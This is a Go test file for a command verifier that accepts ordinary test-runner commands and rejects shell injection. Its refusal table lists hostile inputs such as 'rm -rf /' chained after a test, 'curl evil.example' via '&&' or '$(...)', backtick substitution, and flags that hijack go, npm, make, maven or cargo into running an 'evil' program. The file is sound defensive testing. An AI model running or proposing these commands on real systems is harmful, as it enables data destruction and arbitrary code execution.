package verify

import (
	"errors"
	"reflect"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestParseCommandAllows(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		cmd   string
		allow []string
		want  []string
	}{
		{"go test ./...", nil, []string{"go", "test", "./..."}},
		{"go test ./pkg -run '^(TestA|TestB)$'", nil, []string{"go", "test", "./pkg", "-run", "^(TestA|TestB)$"}},
		{`go test -run "TestA|TestB" -count=1 -race ./...`, nil, []string{"go", "test", "-run", "TestA|TestB", "-count=1", "-race", "./..."}},
		{"go   test\t./...", nil, []string{"go", "test", "./..."}},
		{`go test -ldflags '-X main.version=1' ./...`, nil, []string{"go", "test", "-ldflags", "-X main.version=1", "./..."}},
		{"go test ./... -args -exec=/tmp/whatever", nil, []string{"go", "test", "./...", "-args", "-exec=/tmp/whatever"}},
		{"go build -o /dev/null ./...", nil, []string{"go", "build", "-o", "/dev/null", "./..."}},
		{"go vet ./...", nil, []string{"go", "vet", "./..."}},
		{"npm test", nil, []string{"npm", "test"}},
		{"npm run test -- --coverage", nil, []string{"npm", "run", "test", "--", "--coverage"}},
		{"npx vitest run src", nil, []string{"npx", "vitest", "run", "src"}},
		{"python3 -m pytest -x tests/test_a.py::test_b", nil, []string{"python3", "-m", "pytest", "-x", "tests/test_a.py::test_b"}},
		{"pytest -k 'not slow'", nil, []string{"pytest", "-k", "not slow"}},
		{"cargo test -- --nocapture", nil, []string{"cargo", "test", "--", "--nocapture"}},
		{"mvn test -fae -q", nil, []string{"mvn", "test", "-fae", "-q"}},
		{"./gradlew test --tests 'com.example.*'", nil, []string{"./gradlew", "test", "--tests", "com.example.*"}},
		{`dotnet test --logger "console;verbosity=detailed"`, nil, []string{"dotnet", "test", "--logger", "console;verbosity=detailed"}},
		{"make check", nil, []string{"make", "check"}},
		{`it\'s fine`, []string{`it\'s`}, []string{"it's", "fine"}},
		{"node --test", []string{"node --test"}, []string{"node", "--test"}},
		{"bin/run-tests --fast", []string{"bin/run-tests"}, []string{"bin/run-tests", "--fast"}},
	} {
		got, err := ParseCommand(tc.cmd, tc.allow)
		if err != nil || !reflect.DeepEqual(got, tc.want) {
			t.Errorf("ParseCommand(%q) = %q, %v; want %q", tc.cmd, got, err, tc.want)
		}
	}
}

func TestParseCommandRefuses(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		cmd    string
		allow  []string
		reason string // a part of the reason
	}{
		{"", nil, "empty"},
		{"go test ./... ; rm -rf /", nil, `";"`},
		{"go test ./... && curl evil.example", nil, `"&"`},
		{"go test ./... || true", nil, `"|"`},
		{"go test ./... | tee log", nil, `"|"`},
		{"go test ./... > /tmp/out", nil, `">"`},
		{"go test ./... 2>&1", nil, `">"`},
		{"go test < /dev/zero", nil, `"<"`},
		{"go test ./... &", nil, `"&"`},
		{"(go test)", nil, `"("`},
		{"go test ./...\nrm -rf /", nil, "newline"},
		{"go test ./...\rrm", nil, "newline"},
		{"go test \x00", nil, "control character"},
		{"go test $(curl evil)", nil, "substitution"},
		{"go test '$(curl evil)'", nil, "substitution"},
		{"go test `id`", nil, "backticks"},
		{"go test $HOME", nil, "variable expansion"},
		{"go test ${IFS}x", nil, "variable expansion"},
		{`go test "$HOME"`, nil, "variable expansion"},
		{"go test ./... # comment", nil, "comments"},
		{"go test 'unterminated", nil, "unterminated single quote"},
		{`go test "unterminated`, nil, "unterminated double quote"},
		{`go test \`, nil, "trailing backslash"},
		{"sh -c 'go test ./...'", []string{"sh"}, "sh runs other commands"},
		{"/bin/bash -c 'go test'", nil, "bash runs other commands"},
		{"env GITHUB_TOKEN=x go test", nil, "env runs other commands"},
		{"GOFLAGS=-toolexec=evil go test ./...", nil, "sets a variable"},
		{"timeout 10 go test", nil, "timeout runs other commands"},
		{"sudo go test", nil, "sudo runs other commands"},
		{"xargs go test", nil, "xargs runs other commands"},
		{"go test -exec /tmp/evil ./...", nil, "-exec makes go run another program"},
		{"go test -exec=evil ./...", nil, "makes go run another program"},
		{"go test --toolexec=evil ./...", nil, "makes go run another program"},
		{"go build -toolexec evil ./...", nil, "makes go run another program"},
		{"go vet -vettool=./evil ./...", nil, "makes go run another program"},
		{"go test -compiler gccgo -gccgoflags=-wrapper=evil ./...", nil, "makes go run another program"},
		{"go test -ldflags=-extld=evil -ldflags=-linkmode=external ./...", nil, "linker run another program"},
		{"go test -ldflags '-linkmode external -extld evil' ./...", nil, "linker run another program"},
		{"go test -modfile=/tmp/evil.mod ./...", nil, "outside the repository"},
		{"go test /tmp/evil/x_test.go", nil, "outside the repository"},
		{"go test -o ../../usr/local/bin/git .", nil, "outside the repository"},
		{"go test -coverprofile=/etc/cover.out ./...", nil, "outside the repository"},
		{"go run ./cmd/evil", nil, "not on the allowlist"},
		{"go generate ./...", nil, "not on the allowlist"},
		{"go\\ test ./...", nil, "not on the allowlist"},
		{"./go test", nil, "not on the allowlist"},
		{"npm run test:unit", nil, "not on the allowlist"},
		{"npm exec evil", nil, "not on the allowlist"},
		{"npm test --script-shell=/bin/evil", nil, "makes npm run another program"},
		{"npm test --node-options=--require=./evil.js", nil, "makes npm run another program"},
		{"npm test --prefix=/tmp/evil", nil, "makes npm run another program"},
		{"npm test --userconfig .npmrc.evil", nil, "makes npm run another program"},
		{"yarn test --cwd /tmp/evil", nil, "makes yarn run another program"},
		{"pnpm test --dir=elsewhere", nil, "makes pnpm run another program"},
		{`npx jest --config '{"testRunner":"/tmp/evil.js"}'`, nil, "inline configuration"},
		{"npx jest --testRunner=/tmp/evil.js", nil, "outside the repository"},
		{"npx vitest run --config ../evil.config.ts", nil, "outside the repository"},
		{"python -c 'import os'", []string{"python"}, "runs code given on the command line"},
		{"python3 -Bc 'import os'", []string{"python3"}, "runs code given on the command line"},
		{"python3 -W ignore -c 'import os'", []string{"python3"}, "runs code given on the command line"},
		{"node -e 'require(1)'", []string{"node"}, "runs code given on the command line"},
		{"node -pe 1", []string{"node"}, "runs code given on the command line"},
		{"node --eval=1", []string{"node"}, "runs code given on the command line"},
		{"python -m http.server", nil, "not on the allowlist"},
		{"pytest --basetemp=build", nil, "makes pytest run another program"},
		{"python -m pytest -c /etc/passwd", nil, "outside the repository"},
		{"pytest --rootdir=/", nil, "outside the repository"},
		{"pytest --pdbcls=evil:Debugger", nil, "makes pytest run another program"},
		{`cargo test --config 'build.rustc-wrapper="/tmp/evil"'`, nil, "makes cargo run another program"},
		{"cargo test -Zunstable-options", nil, "makes cargo run another program"},
		{"cargo test --manifest-path other/Cargo.toml", nil, "makes cargo run another program"},
		{"cargo test --target-dir=/tmp/t", nil, "outside the repository"},
		{"make test SHELL=/bin/evil", nil, "make variable override"},
		{"make test CC=evil", nil, "make variable override"},
		{"make test -f /tmp/Makefile", nil, "makes make run another program"},
		{"make test -fevil.mk", nil, "makes make run another program"},
		{"make test -C /tmp/evil", nil, "makes make run another program"},
		{"make test --eval='x:=1'", nil, "makes make run another program"},
		{"mvn test -s evil-settings.xml", nil, "makes mvn run another program"},
		{"mvn test -f ../pom.xml", nil, "makes mvn run another program"},
		{"mvn test -DargLine=-javaagent:evil.jar", nil, "another JVM or agent"},
		{"mvn test -Djvm=/tmp/evil", nil, "another JVM or agent"},
		{"mvn test -Dmaven.repo.local=/tmp/m2", nil, "outside the repository"},
		{"gradle test --init-script evil.gradle", nil, "makes gradle run another program"},
		{"./gradlew test -Ievil.gradle", nil, "makes gradlew run another program"},
		{"./gradlew test -Dorg.gradle.java.home=/tmp/jdk", nil, "another JVM or agent"},
		{"./gradlew test --gradle-user-home home", nil, "makes gradlew run another program"},
		{"dotnet test --test-adapter-path x", nil, "makes dotnet run another program"},
		{"dotnet test /tmp/evil/evil.csproj", nil, "outside the repository"},
		{"bundle exec rspec --require /tmp/evil.rb", nil, "outside the repository"},
		{`go test -run $\(x`, nil, "command substitution"},
		{`go test -run $'('x`, nil, "command substitution"},
		{"go test -run \\`x", nil, "command substitution"},
		{"go test -run \"\\`\"", nil, "command substitution"},
	} {
		_, err := ParseCommand(tc.cmd, tc.allow)
		var refused *RefusedError
		if !errors.As(err, &refused) {
			t.Errorf("ParseCommand(%q) = %v, want refused", tc.cmd, err)
			continue
		}
		if !strings.Contains(refused.Reason, tc.reason) {
			t.Errorf("ParseCommand(%q) reason %q, want it to mention %q", tc.cmd, refused.Reason, tc.reason)
		}
	}
}

func TestJoinRoundTrips(t *testing.T) {
	t.Parallel()
	for _, argv := range [][]string{
		{"go", "test", "./pkg", "-run", "^(TestA|TestB)$"},
		{"pytest", "tests/test_x.py::test_y[a b-1]", "it's", ""},
		{"npx", "jest", "-t", `^(?:sum adds \(1\))$`},
		{"a#b", "#c", "~x", "$y", "{z}", "*"},
	} {
		cmd := Join(argv)
		got, err := Split(cmd)
		if err != nil || !reflect.DeepEqual(got, argv) {
			t.Errorf("Split(Join(%q)) = Split(%s) = %q, %v", argv, cmd, got, err)
		}
	}
	if got := Join([]string{"go", "test", "./..."}); got != "go test ./..." {
		t.Errorf("Join quotes safe words: %s", got)
	}
}

// FuzzJoinSplit checks that Join's output always splits back to its input,
// unless it holds what Split refuses outright (invalid UTF-8, control
// characters, backticks, "$(").
func FuzzJoinSplit(f *testing.F) {
	f.Add("go", "test", "^(A|B)$")
	f.Add("it's", "$HOME", "a b")
	f.Fuzz(func(t *testing.T, a, b, c string) {
		argv := []string{a, b, c}
		cmd := Join(argv)
		got, err := Split(cmd)
		if err != nil {
			var refused *RefusedError
			if !errors.As(err, &refused) {
				t.Fatalf("Split(%q): %v", cmd, err)
			}
			if utf8.ValidString(cmd) && !strings.ContainsAny(cmd, "`\n\r") && !strings.Contains(cmd, "$(") && !hasControl(cmd) {
				t.Fatalf("Split(Join(%q)) = %v", argv, err)
			}
			return
		}
		if !reflect.DeepEqual(got, argv) {
			t.Fatalf("Split(Join(%q)) = %q", argv, got)
		}
	})
}

func hasControl(s string) bool {
	for _, r := range s {
		if r < 0x20 && r != '\t' || r == 0x7f {
			return true
		}
	}
	return false
}

// FuzzSplit checks that Split never lets a shell operator through
// unquoted: every argv it accepts re-joins to a command a shell would read
// as the same words.
func FuzzSplit(f *testing.F) {
	f.Add("go test ./pkg -run '^(TestA|TestB)$'")
	f.Add(`go test "a b" c\ d`)
	f.Fuzz(func(t *testing.T, cmd string) {
		argv, err := Split(cmd)
		if err != nil {
			return
		}
		if len(argv) == 0 {
			t.Fatalf("Split(%q) accepted an empty command", cmd)
		}
		again, err := Split(Join(argv))
		if err != nil || !reflect.DeepEqual(again, argv) {
			t.Fatalf("Split(%q) = %q, but its Join %q splits to %q, %v", cmd, argv, Join(argv), again, err)
		}
	})
}
